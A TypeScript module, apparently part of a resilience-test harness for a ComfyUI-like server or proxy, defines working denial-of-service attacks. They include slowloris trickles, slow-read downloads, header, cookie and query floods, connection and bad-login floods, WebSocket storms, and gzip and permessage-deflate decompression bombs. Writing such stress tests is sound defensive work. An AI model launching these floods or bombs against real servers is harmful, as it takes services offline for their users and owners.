import { randomBytes } from 'node:crypto'
import type { Socket } from 'node:net'
import { gzipSync } from 'node:zlib'
import { type Attack, type Attacker, head } from './attack.ts'

const BIG = '/assets/big.js'

const bearer = (key: string): string => `Authorization: Bearer ${key}`

/** So many connections that say `first`, and then `drop` once a second, one after the other. */
async function trickle(attacker: Attacker, connections: number, first: string, drop: string): Promise<void> {
  const held = await attacker.hold(connections, 500, () => attacker.open(first))
  let turns = held.values()
  attacker.every(connections, () => {
    let next = turns.next()
    if (next.done) {
      turns = held.values()
      next = turns.next()
    }
    next.value?.write(drop)
    attacker.count('drops')
  })
}

/** So many connections that ask and never read: they come slowly, or what fills the kernel's buffers at first would be measured. */
async function deaf(attacker: Attacker, connections: number, request: string, perSecond = 40): Promise<void> {
  await attacker.hold(connections, perSecond, () => attacker.open(request).pause())
}

/** Requests over a few connections that stay. */
async function requests(attacker: Attacker, perSecond: number, connections: number, make: () => string | Buffer) {
  const next = await attacker.lanes(connections)
  attacker.every(perSecond, () => {
    const socket: Socket = next()
    if (socket.writableLength > 1024 * 1024) return // it reads no faster: a flood is bounded by what is taken
    socket.write(make())
    attacker.count('requests')
  })
}

/** `what` over and over, within a head of 32 KiB. */
const filled = (what: string): string => what.repeat(Math.floor(31_500 / what.length))

/** A text frame of a client with permessage-deflate, masked by zeros: 1 MiB of blanks in a kilobyte. */
function deflatedFrame(): Buffer {
  const content = gzipSync(Buffer.alloc(1024 * 1024, 0x20)).subarray(10, -8)
  return Buffer.concat([
    Buffer.from([0xc1, 0x80 | 126, content.length >> 8, content.length & 255, 0, 0, 0, 0]),
    content,
  ])
}

const upgrade = (more: readonly string[]): string =>
  head('GET', `/ws?clientId=${randomBytes(8).toString('hex')}`, [
    'Connection: Upgrade',
    'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
    ...more,
  ])

export const HTTP1: Readonly<Record<string, Attack>> = {
  'slow-head': {
    what: '1,000 connections, a header line a second, never an end',
    start: (attacker) => trickle(attacker, 1_000, 'GET /queue HTTP/1.1\r\nHost: localhost\r\n', 'X-More: 1\r\n'),
  },
  'slow-login': {
    what: '1,000 posts of the login form, a byte a second',
    start: (attacker) => trickle(attacker, 1_000, head('POST', '/auth_login.html', ['Content-Length: 16000']), 'a'),
  },
  'slow-upload': {
    what: "400 uploads with one user's key, a byte a second",
    start: (attacker) =>
      trickle(attacker, 400, head('POST', '/upload/image', [bearer(attacker.key), 'Content-Length: 1000000']), 'a'),
  },
  'slow-read': {
    what: '400 downloads of 64 MiB that need no key, never read',
    start: (attacker) => deaf(attacker, 400, head('GET', BIG)),
  },
  'slow-read-key': {
    what: "400 downloads of 64 MiB with one user's key, never read",
    start: (attacker) => deaf(attacker, 400, head('GET', '/view?filename=big.png', [bearer(attacker.key)])),
  },
  pipeline: {
    what: '20 connections with 1,400 downloads of 64 MiB each in one go, never read, renewed 4 a second',
    start: (attacker) => deaf(attacker, 20, head('GET', BIG).repeat(1_400), 4),
  },
  'many-headers': {
    what: '300 heads a second with 5,000 fields in 32 KiB',
    start: (attacker) =>
      requests(attacker, 300, 16, () => `${head('GET', '/queue', []).slice(0, -2) + filled('a: b\r\n')}\r\n`),
  },
  'many-cookies': {
    what: '300 heads a second with 1,500 of our own cookies',
    start: (attacker) =>
      requests(attacker, 300, 16, () =>
        head('GET', '/queue', [`Cookie: ${filled(`comfy_auth_${attacker.port}=0; `)}`]),
      ),
  },
  'many-keys': {
    what: '300 heads a second with 3,000 keys in the query',
    start: (attacker) => requests(attacker, 300, 16, () => head('GET', `/queue?${filled('api_key=a+b&')}`)),
  },
  'long-heads': {
    what: '500 heads of 64 KiB a second, each on a connection of its own',
    start(attacker) {
      const long = head('GET', '/queue', [`X-Long: ${'a'.repeat(65_536)}`])
      attacker.every(500, () => attacker.open(long))
    },
  },
  connections: {
    what: '1,000 connections a second, a refused request on each',
    start: (attacker) => attacker.every(1_000, () => attacker.open(head('GET', '/queue', ['Connection: close']))),
  },
  idle: {
    what: '10,000 connections: half silent, half idle after a request, renewed when they are closed',
    async start(attacker) {
      let count = 0
      await attacker.hold(10_000, 2_000, () => attacker.open(count++ % 2 === 0 ? undefined : head('GET', '/queue')))
    },
  },
  'no-key': {
    what: '5,000 requests a second without a key',
    start: (attacker) => requests(attacker, 5_000, 64, () => head('GET', '/queue')),
  },
  'wrong-keys': {
    what: "2,000 different wrong keys a second from the client's own address",
    start: (attacker) =>
      requests(attacker, 2_000, 64, () => head('GET', '/queue', [bearer(randomBytes(24).toString('base64url'))])),
  },
  'wrong-logins': {
    what: "500 wrong logins a second from the client's own address",
    start: (attacker) =>
      requests(attacker, 500, 64, () => {
        const form = `api_key=${randomBytes(24).toString('base64url')}`
        const type = 'Content-Type: application/x-www-form-urlencoded'
        return head('POST', '/auth_login.html', [type, `Content-Length: ${form.length}`]) + form
      }),
  },
  health: {
    what: '2,000 /health a second',
    start: (attacker) => requests(attacker, 2_000, 64, () => head('GET', '/health')),
  },
  'ws-refused': {
    what: '1,000 WebSocket handshakes a second without a key, left open',
    start: (attacker) => attacker.every(1_000, () => attacker.open(upgrade([]))),
  },
  'ws-storm': {
    what: "300 WebSockets a second with one user's key, each closed after 3 s",
    start(attacker) {
      attacker.every(300, () => {
        const socket = attacker.open(upgrade([bearer(attacker.key)]))
        setTimeout(() => socket.destroy(), 3_000)
      })
    },
  },
  'ws-bomb': {
    what: '20 WebSockets with permessage-deflate, 1,000 frames a second that inflate a thousandfold',
    async start(attacker) {
      const frame = deflatedFrame()
      const fields = [bearer(attacker.key), 'Sec-WebSocket-Extensions: permessage-deflate']
      const held = await attacker.hold(20, 100, () => attacker.open(upgrade(fields)))
      attacker.every(50, () => {
        for (const socket of held) if (socket.writableLength < 1024 * 1024) socket.write(frame)
      })
    },
  },
  'gzip-bomb': {
    what: '20 posts a second of gzip that inflates a thousandfold, and a page that comes so from the upstream',
    async start(attacker) {
      const bomb = gzipSync(Buffer.alloc(48 * 1024 * 1024))
      const post = (target: string): Buffer => {
        const fields = [bearer(attacker.key), 'Content-Encoding: gzip', `Content-Length: ${bomb.length}`]
        return Buffer.concat([Buffer.from(head('POST', target, ['Content-Type: application/json', ...fields])), bomb])
      }
      const sent = [post('/prompt'), post('/interrupt'), Buffer.from(head('GET', '/', [bearer(attacker.key)]))]
      let turn = 0
      await requests(attacker, 20, 16, () => sent[turn++ % sent.length]!)
    },
  },
}
